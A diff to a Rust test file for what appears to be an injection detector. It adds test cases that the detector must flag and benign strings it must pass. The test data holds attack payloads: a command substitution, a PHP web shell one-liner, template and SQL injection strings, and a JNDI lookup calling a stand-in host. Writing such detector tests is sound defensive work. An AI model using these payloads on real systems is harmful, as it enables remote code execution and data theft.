@@ -37,6 +37,8 @@ fn each_category_is_recognised() {
         ("$(whoami)", Category::CommandInjection),
         ("<?php system($_GET['c']); ?>", Category::CodeInjection),
         ("{{ config.__class__.__init__.__globals__ }}", Category::CodeInjection),
+        ("${jndi:ldap://evil.example/a}", Category::CodeInjection),
+        ("admin' -- ", Category::SqlInjection),
     ];
     for (input, expected) in cases {
         assert_eq!(category(input), Some(*expected), "{input}");
@@ -95,6 +97,8 @@ fn prose_and_ordinary_form_input_pass() {
         "a 27\" screen, 6' tall",
         "Run `npm install` and then `npm start`",
         "$(document).ready(init)",
+        "C:\\ drive is full, what should I delete?",
+        "\"To be, or not to be\" -- that is the question.",
     ] {
         assert_eq!(validator().validate(input), Verdict::Passed, "{input}");
     }
